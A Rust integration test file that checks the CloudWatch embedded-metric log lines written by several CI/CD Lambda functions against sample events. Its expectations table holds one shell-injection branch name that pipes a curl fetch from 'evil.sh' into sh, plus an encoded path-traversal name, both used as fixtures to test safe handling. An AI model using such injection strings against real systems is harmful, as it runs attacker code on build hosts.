//! Every function's decision log line, for every sample in `events/`, as its Lambda writes it
//! (`lambda::handle` with the Lambda's own log formatter, the sample configuration and the
//! sample worlds, every action succeeding): valid CloudWatch embedded metric format (checked
//! here against the specification's required `_aws` structure, names and units), with the
//! metric values each sample's decision should count, and nothing in a dimension but bounded
//! names (never a secret, a branch or a key).
//!
//! EMF specification:
//! <https://docs.aws.amazon.com/AmazonCloudWatch/latest/monitoring/CloudWatch_Embedded_Metric_Format_Specification.html>

use std::collections::BTreeMap;
use std::future::Future;
use std::path::{Path, PathBuf};
use std::pin::Pin;
use std::sync::Arc;
use std::time::{Duration, SystemTime};

use serde_json::{json, Value};
use switchyard_adapters::lambda;
use switchyard_core::deadline::{Deadline, DEFAULT_MARGIN};
use switchyard_core::function::Function;
use switchyard_core::metrics::{self, Count, Reported, TargetKind};
use switchyard_core::pipeline_job::{Job, JobDetails, NotConfirmed, PipelineContext};
use switchyard_core::plan::{Action, FunctionName};
use switchyard_core::ports::{ActError, ActionExecutor, ActionReport};
use switchyard_core::registry::{registry, Visit};
use switchyard_core::world::{DryRunPorts, DryRunResolve};
use switchyard_integration_tests::vars;
use switchyard_test_support::logs::Captured;

fn repo_root() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

/// Every action succeeds, as AWS would answer it; or, with `fail`, every action fails.
struct Executor {
    fail: bool,
}

impl ActionExecutor for Executor {
    async fn execute(&self, action: &Action) -> Result<ActionReport, ActError> {
        if self.fail {
            return Err(ActError {
                operation: action.operation(),
                message: "ThrottlingException: Rate exceeded".into(),
                retryable: true,
            });
        }
        Ok(ActionReport {
            operation: action.operation(),
            result: json!({}),
        })
    }
}

/// CodePipeline's account of a job: the sample job itself, for the pipeline the sample
/// configuration lets sync (`KAFKA_CLUSTERS`).
struct AsIssued(Value);

impl JobDetails for AsIssued {
    async fn job_details(&self, job_id: &str) -> Result<Job, NotConfirmed> {
        let mut job = Job::parse(&self.0).map_err(|e| NotConfirmed(e.to_string()))?;
        assert_eq!(job.id, job_id);
        job.pipeline = Some(PipelineContext {
            pipeline: "orders-connect".into(),
            stage: None,
            action: None,
            execution_id: None,
        });
        Ok(job)
    }
}

/// The decision lines function `name`'s Lambda writes for `raw` in `world`.
fn decision_lines(name: FunctionName, raw: &Value, world: &Value) -> Vec<Value> {
    decision_lines_with(name, raw, world, Executor { fail: false })
}

fn decision_lines_with(
    name: FunctionName,
    raw: &Value,
    world: &Value,
    executor: Executor,
) -> Vec<Value> {
    struct Handle<'a> {
        raw: &'a Value,
        ports: Arc<DryRunPorts>,
        executor: Executor,
    }
    impl<'a> Visit for Handle<'a> {
        type Output = Pin<Box<dyn Future<Output = ()> + 'a>>;
        fn visit<F: Function>(self) -> Self::Output {
            Box::pin(async move {
                let function = F::configure(vars(), &DryRunResolve)
                    .await
                    .unwrap_or_else(|e| panic!("sample configuration of {}: {e}", F::NAME));
                let deadline =
                    Deadline::new(SystemTime::now() + Duration::from_secs(900), DEFAULT_MARGIN);
                let jobs = AsIssued(self.raw.clone());
                let _answer = lambda::handle(
                    Arc::new(function),
                    self.ports,
                    &self.executor,
                    &jobs,
                    self.raw.clone(),
                    deadline,
                )
                .await;
            })
        }
    }
    let ports = Arc::new(DryRunPorts::from_world(world).expect("a valid sample world"));
    let (captured, _guard) = Captured::install();
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    runtime.block_on(registry(
        name,
        Handle {
            raw,
            ports,
            executor,
        },
    ));
    captured.decision_lines()
}

/// Every sample under `events/<function>/`, by function.
fn samples() -> Vec<(FunctionName, String, Value)> {
    let mut out = Vec::new();
    for name in FunctionName::ALL {
        let dir = repo_root().join("events").join(name.as_str());
        let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.extension().is_some_and(|e| e == "json"))
            .collect();
        files.sort();
        for file in files {
            let raw = serde_json::from_slice(&std::fs::read(&file).unwrap()).unwrap();
            let sample = format!("{}/{}", name, file.file_name().unwrap().to_string_lossy());
            out.push((name, sample, raw));
        }
    }
    out
}

fn world(name: &str) -> Value {
    let path = repo_root().join("events/worlds").join(name);
    serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
}

/// The units CloudWatch accepts (`MetricDatum.Unit`), as EMF requires.
const UNITS: [&str; 27] = [
    "Seconds",
    "Microseconds",
    "Milliseconds",
    "Bytes",
    "Kilobytes",
    "Megabytes",
    "Gigabytes",
    "Terabytes",
    "Bits",
    "Kilobits",
    "Megabits",
    "Gigabits",
    "Terabits",
    "Percent",
    "Count",
    "Bytes/Second",
    "Kilobytes/Second",
    "Megabytes/Second",
    "Gigabytes/Second",
    "Terabytes/Second",
    "Bits/Second",
    "Kilobits/Second",
    "Megabits/Second",
    "Gigabits/Second",
    "Terabits/Second",
    "Count/Second",
    "None",
];

/// Checks `line` against the EMF specification's required structure and returns its metrics
/// (name → value) and dimension values (key → value).
fn parse_emf(line: &Value) -> (BTreeMap<String, f64>, BTreeMap<String, String>) {
    let root = line.as_object().expect("an EMF document is a JSON object");
    let aws = root["_aws"].as_object().expect("_aws is an object");
    let timestamp = aws["Timestamp"]
        .as_u64()
        .expect("_aws.Timestamp: ms since the epoch");
    let now = SystemTime::now()
        .duration_since(SystemTime::UNIX_EPOCH)
        .unwrap();
    assert!(
        timestamp.abs_diff(now.as_millis() as u64) < 600_000,
        "{timestamp}"
    );
    let directives = aws["CloudWatchMetrics"]
        .as_array()
        .expect("_aws.CloudWatchMetrics is an array");
    assert!(!directives.is_empty());
    let (mut metrics, mut dimensions) = (BTreeMap::new(), BTreeMap::new());
    for directive in directives {
        let namespace = directive["Namespace"]
            .as_str()
            .expect("Namespace: a string");
        assert!(!namespace.trim().is_empty() && namespace.len() <= 1024);
        assert_eq!(namespace, metrics::NAMESPACE);
        let sets = directive["Dimensions"]
            .as_array()
            .expect("Dimensions: an array");
        for set in sets {
            let set = set.as_array().expect("a dimension set is an array");
            assert!(set.len() <= 30, "at most 30 dimensions in a set");
            for key in set {
                let key = key.as_str().expect("a dimension key is a string");
                let value = root[key]
                    .as_str()
                    .unwrap_or_else(|| panic!("dimension {key}: a string member of the root"));
                assert!(!value.is_empty() && value.len() <= 1024, "{key}={value:?}");
                dimensions.insert(key.to_owned(), value.to_owned());
            }
        }
        let defs = directive["Metrics"].as_array().expect("Metrics: an array");
        assert!(!defs.is_empty() && defs.len() <= 100);
        for def in defs {
            let name = def["Name"].as_str().expect("Metrics[].Name: a string");
            assert!(!name.is_empty() && name.len() <= 1024);
            if let Some(unit) = def.get("Unit") {
                let unit = unit.as_str().expect("Unit: a string");
                assert!(UNITS.contains(&unit), "unknown unit {unit}");
            }
            let value = root[name]
                .as_f64()
                .unwrap_or_else(|| panic!("metric {name}: a number member of the root"));
            metrics.insert(name.to_owned(), value);
        }
    }
    (metrics, dimensions)
}

/// What each sample's decision counts, beside `Decisions` and `ActionLatency`: (world, sample,
/// record, [(metric, value)], split dimension). Every sample not listed counts nothing.
type Expected = (
    &'static str,
    &'static str,
    &'static str,
    &'static [(&'static str, f64)],
    Option<(&'static str, &'static str)>,
);

const CREATED: &[(&str, f64)] = &[("BranchEnvironmentsCreated", 1.0)];
const DESTROYED: &[(&str, f64)] = &[("BranchEnvironmentsDestroyed", 1.0)];
const RELEASE: &[(&str, f64)] = &[("ReleasesStarted", 1.0)];
const DEPLOYED: &[(&str, f64)] = &[("ArtifactsDeployed", 1.0)];
const PASS: &[(&str, f64)] = &[("GatePasses", 1.0)];
const FAIL: &[(&str, f64)] = &[("GateFails", 1.0)];
const WAIT: &[(&str, f64)] = &[("GateWaits", 1.0)];
const RETRY: &[(&str, f64)] = &[("StageRetries", 1.0)];
const BUILD: Option<(&str, &str)> = Some(("target", "build"));
const PIPELINE: Option<(&str, &str)> = Some(("target", "pipeline"));
const FLINK: Option<(&str, &str)> = Some(("target", "flink"));
const LAMBDA: Option<(&str, &str)> = Some(("target", "lambda"));
const ANY: &str = "*";

const EXPECTED: &[Expected] = &[
    (
        ANY,
        "branch-pipelines/bitbucket-push-branch-created.json",
        "",
        CREATED,
        None,
    ),
    (
        ANY,
        "branch-pipelines/bitbucket-push-branch-deleted.json",
        "",
        DESTROYED,
        None,
    ),
    (
        ANY,
        "branch-pipelines/bitbucket-push-several-changes.json",
        "push.changes[0]",
        CREATED,
        None,
    ),
    (
        ANY,
        "branch-pipelines/bitbucket-push-several-changes.json",
        "push.changes[1]",
        DESTROYED,
        None,
    ),
    (
        ANY,
        "branch-pipelines/github-enterprise-push-branch-created.json",
        "",
        CREATED,
        None,
    ),
    (
        ANY,
        "branch-pipelines/github-enterprise-push-branch-deleted.json",
        "",
        DESTROYED,
        None,
    ),
    (
        ANY,
        "branch-pipelines/gitlab-push-branch-created.json",
        "",
        CREATED,
        None,
    ),
    (
        ANY,
        "branch-pipelines/gitlab-push-branch-deleted.json",
        "",
        DESTROYED,
        None,
    ),
    (
        ANY,
        "branch-pipelines/gitlab-self-managed-branch-created.json",
        "",
        CREATED,
        None,
    ),
    (
        "clear.json",
        "branch-pipelines/scheduled-sweep.json",
        r#"codecommit:payments-service feature/$(curl${IFS}evil.sh|sh);`id`&&x>y<z'""#,
        CREATED,
        None,
    ),
    (
        "clear.json",
        "branch-pipelines/scheduled-sweep.json",
        "codecommit:payments-service feature/%2e%2e%2f%2e%2e%2fetc",
        CREATED,
        None,
    ),
    (
        ANY,
        "branch-pipelines/codecommit-branch-deleted.json",
        "",
        DESTROYED,
        None,
    ),
    (
        ANY,
        "branch-pipelines/codecommit-ledger-branch-deleted.json",
        "",
        DESTROYED,
        None,
    ),
    (
        ANY,
        "branch-pipelines/github-create-branch.json",
        "",
        CREATED,
        None,
    ),
    (
        ANY,
        "branch-pipelines/github-delete-branch.json",
        "",
        DESTROYED,
        None,
    ),
    (
        ANY,
        "branch-pipelines/github-push-branch-created.json",
        "",
        CREATED,
        None,
    ),
    (
        ANY,
        "branch-pipelines/github-push-branch-deleted.json",
        "",
        DESTROYED,
        None,
    ),
    (
        ANY,
        "tag-release/codecommit-moved-tag-redeployed.json",
        "",
        RELEASE,
        Some(("environment", "dev")),
    ),
    (
        ANY,
        "tag-release/codecommit-v-prefixed.json",
        "",
        RELEASE,
        Some(("environment", "dev")),
    ),
    (
        ANY,
        "tag-release/codecommit-valid-global.json",
        "",
        RELEASE,
        Some(("environment", "qa")),
    ),
    (
        ANY,
        "tag-release/codecommit-valid-regional.json",
        "",
        RELEASE,
        Some(("environment", "dev")),
    ),
    (
        ANY,
        "tag-release/github-push-tag.json",
        "",
        RELEASE,
        Some(("environment", "prod")),
    ),
    (
        ANY,
        "tag-release/bitbucket-push-tag.json",
        "",
        RELEASE,
        Some(("environment", "dev")),
    ),
    (
        ANY,
        "tag-release/github-enterprise-push-tag.json",
        "",
        RELEASE,
        Some(("environment", "prod")),
    ),
    (
        ANY,
        "tag-release/gitlab-tag-push.json",
        "",
        RELEASE,
        Some(("environment", "dev")),
    ),
    (
        ANY,
        "artifact-release/eventbridge-object-created.json",
        "detail",
        DEPLOYED,
        BUILD,
    ),
    (
        ANY,
        "artifact-release/s3-put-connector-plugin.json",
        "Records[0]",
        DEPLOYED,
        PIPELINE,
    ),
    (
        ANY,
        "artifact-release/s3-put-key-with-plus.json",
        "Records[0]",
        DEPLOYED,
        BUILD,
    ),
    (
        ANY,
        "artifact-release/s3-put-key-with-spaces.json",
        "Records[0]",
        DEPLOYED,
        PIPELINE,
    ),
    (
        ANY,
        "artifact-release/s3-put-several-records.json",
        "Records[0]",
        DEPLOYED,
        BUILD,
    ),
    (
        ANY,
        "artifact-release/s3-put-several-records.json",
        "Records[1]",
        DEPLOYED,
        PIPELINE,
    ),
    (
        ANY,
        "artifact-release/s3-put-unicode-key.json",
        "Records[0]",
        DEPLOYED,
        PIPELINE,
    ),
    (
        ANY,
        "artifact-release/s3-put-unversioned-key-pinned.json",
        "Records[0]",
        DEPLOYED,
        BUILD,
    ),
    (
        ANY,
        "artifact-release/sns-wrapped-notification.json",
        "Records[0].Sns.Message.Records[0]",
        DEPLOYED,
        BUILD,
    ),
    (
        ANY,
        "artifact-release/sqs-wrapped-notifications.json",
        "Records[0].body.Records[0]",
        DEPLOYED,
        PIPELINE,
    ),
    // Only clear.json says what the Flink application and the Lambda alias run: a newer jar and
    // zip are deployed; the running jar again and an older one are skipped (count nothing); in
    // open-issue.json neither target exists, so all four are rejected.
    (
        "clear.json",
        "artifact-release/s3-put-flink-jar.json",
        "Records[0]",
        DEPLOYED,
        FLINK,
    ),
    (
        "clear.json",
        "artifact-release/s3-put-lambda-zip.json",
        "Records[0]",
        DEPLOYED,
        LAMBDA,
    ),
    // A job whose parameters are invalid fails the gate, whatever AWS Health says.
    (
        ANY,
        "health-gate/job-invalid-parameters.json",
        "",
        FAIL,
        None,
    ),
    (
        "clear.json",
        "health-gate/job-continuation.json",
        "",
        PASS,
        None,
    ),
    (
        "clear.json",
        "health-gate/job-unsupported-plan-pass.json",
        "",
        PASS,
        None,
    ),
    (
        "clear.json",
        "health-gate/job-valid-parameters.json",
        "",
        PASS,
        None,
    ),
    (
        "clear.json",
        "health-gate/job-wait-first-check.json",
        "",
        PASS,
        None,
    ),
    // An open issue: jobs that may wait do, the others fail.
    (
        "open-issue.json",
        "health-gate/job-continuation.json",
        "",
        WAIT,
        None,
    ),
    (
        "open-issue.json",
        "health-gate/job-wait-first-check.json",
        "",
        WAIT,
        None,
    ),
    (
        "open-issue.json",
        "health-gate/job-unsupported-plan-pass.json",
        "",
        FAIL,
        None,
    ),
    (
        "open-issue.json",
        "health-gate/job-valid-parameters.json",
        "",
        FAIL,
        None,
    ),
    // `payments-release` has a failed stage; Health is clear only in clear.json.
    (
        "clear.json",
        "stage-retry/scheduled-sweep.json",
        "",
        RETRY,
        None,
    ),
    (
        "clear.json",
        "stage-retry/stage-failed-via-sns.json",
        "",
        RETRY,
        None,
    ),
    (
        "clear.json",
        "stage-retry/stage-failed.json",
        "",
        RETRY,
        None,
    ),
];

const WORLDS: [&str; 2] = ["clear.json", "open-issue.json"];

#[test]
fn every_sample_logs_valid_emf_with_its_counts() {
    let count_names: Vec<&str> = Count::ALL.iter().map(|c| c.name()).collect();
    let secret = &vars()["GITHUB_WEBHOOK_SECRET"];
    let environments: Vec<&str> = vars()["TAG_ENVIRONMENTS"].split(',').collect();
    let mut seen = Vec::new();
    for (name, sample, raw) in samples() {
        for world_file in WORLDS {
            let lines = decision_lines(name, &raw, &world(world_file));
            assert!(
                !lines.is_empty(),
                "{sample} in {world_file}: no decision line"
            );
            for line in &lines {
                let context = format!("{sample} in {world_file}: {line}");
                assert!(!line.to_string().contains(secret.as_str()), "{context}");
                let (metrics, dimensions) = parse_emf(line);
                assert_eq!(dimensions["function"], name.as_str(), "{context}");
                let outcome = dimensions["outcome"].as_str();
                assert!(
                    Reported::ALL.iter().any(|r| r.as_str() == outcome),
                    "{context}"
                );
                assert_eq!(line["outcome"], outcome, "{context}");
                assert_eq!(metrics["Decisions"], 1.0, "{context}");
                let ran = !line["actions"].as_array().unwrap().is_empty();
                assert_eq!(metrics.contains_key("ActionLatency"), ran, "{context}");
                if let Some(ms) = metrics.get("ActionLatency") {
                    assert!(*ms >= 0.0 && *ms < 60_000.0, "{context}");
                }
                // Dimensions are bounded names only.
                for (key, value) in &dimensions {
                    let bounded = match key.as_str() {
                        "function" => FunctionName::ALL.iter().any(|f| f.as_str() == value),
                        "outcome" => true,
                        "environment" => environments.contains(&value.as_str()),
                        "target" => TargetKind::ALL.iter().any(|t| t.as_str() == value),
                        // A configured cluster's name (issue 22's drift metric).
                        "cluster" => kafka_clusters().contains(value),
                        _ => false,
                    };
                    assert!(bounded, "dimension {key}={value:?}: {context}");
                }
                let record = line["record"].as_str().unwrap();
                let expected = EXPECTED.iter().find(|(w, s, r, _, _)| {
                    (*w == ANY || *w == world_file) && *s == sample && *r == record
                });
                let counted: BTreeMap<&str, f64> = metrics
                    .iter()
                    .filter(|(m, _)| count_names.contains(&m.as_str()))
                    .map(|(m, v)| (m.as_str(), *v))
                    .collect();
                let (counts, split) = expected.map_or((&[][..], None), |e| (e.3, e.4));
                assert_eq!(counted, counts.iter().copied().collect(), "{context}");
                assert_eq!(
                    outcome == "acted" && !counts.is_empty(),
                    !counted.is_empty()
                );
                let split_seen = dimensions
                    .iter()
                    .find(|(k, _)| k.as_str() != "function" && k.as_str() != "outcome")
                    .map(|(k, v)| (k.as_str(), v.as_str()));
                assert_eq!(split_seen, split, "{context}");
                if expected.is_some() {
                    seen.push((world_file, sample.clone(), record.to_owned()));
                }
            }
        }
    }
    // Every expectation was met by a line (a sample renamed or gone would leave one unmet).
    for (w, s, r, _, _) in EXPECTED {
        let worlds: &[&str] = if *w == ANY {
            &WORLDS
        } else {
            std::slice::from_ref(w)
        };
        for world_file in worlds {
            assert!(
                seen.iter()
                    .any(|(sw, ss, sr)| sw == world_file && ss == s && sr == r),
                "no line for {s} {r} in {world_file}"
            );
        }
    }
}

/// When an action fails, the line says `failed`, with the time it took, and counts nothing.
#[test]
fn a_failed_action_is_counted_as_failed_and_nothing_else() {
    let cases = [
        (
            FunctionName::BranchPipelines,
            "github-push-branch-created.json",
        ),
        (
            FunctionName::ArtifactRelease,
            "s3-put-connector-plugin.json",
        ),
        (FunctionName::HealthGate, "job-valid-parameters.json"),
    ];
    for (name, file) in cases {
        let path = repo_root().join("events").join(name.as_str()).join(file);
        let raw: Value = serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
        let lines = decision_lines_with(name, &raw, &world("clear.json"), Executor { fail: true });
        assert_eq!(lines.len(), 1, "{file}");
        let (metrics, dimensions) = parse_emf(&lines[0]);
        assert_eq!(dimensions["outcome"], "failed", "{file}");
        assert!(metrics.contains_key("ActionLatency"), "{file}");
        let counted = Count::ALL.iter().filter(|c| metrics.contains_key(c.name()));
        assert_eq!(counted.count(), 0, "{file}: {metrics:?}");
    }
}

/// The names in the sample configuration's `KAFKA_CLUSTERS`.
fn kafka_clusters() -> Vec<String> {
    let clusters: serde_json::Map<String, Value> =
        serde_json::from_str(&vars()["KAFKA_CLUSTERS"]).unwrap();
    clusters.keys().cloned().collect()
}

/// Issue 22: the drift check's line in its world (`events/worlds/kafka-drift.json`) carries
/// `KafkaDrift` = 1 under `function` and `cluster` (what the stack's drift alarm watches), as
/// valid EMF; without a recorded state (the other worlds) it measures nothing.
#[test]
fn the_drift_check_measures_drift_per_cluster() {
    let path = repo_root().join("events/kafka-sync/scheduled-drift-check.json");
    let raw: Value = serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
    let lines = decision_lines(FunctionName::KafkaSync, &raw, &world("kafka-drift.json"));
    assert_eq!(lines.len(), 1, "{lines:?}");
    let (metrics, dimensions) = parse_emf(&lines[0]);
    assert_eq!(metrics["KafkaDrift"], 1.0, "{}", lines[0]);
    assert_eq!(dimensions["cluster"], "main");
    assert_eq!(dimensions["outcome"], "skipped");
    assert_eq!(lines[0]["record"], "cluster main");
    let directives = lines[0]["_aws"]["CloudWatchMetrics"].to_string();
    assert!(
        directives.contains(r#"[["function"],["function","cluster"]]"#),
        "{directives}"
    );
    let lines = decision_lines(FunctionName::KafkaSync, &raw, &world("clear.json"));
    let (metrics, _) = parse_emf(&lines[0]);
    assert!(!metrics.contains_key("KafkaDrift"), "{}", lines[0]);
}
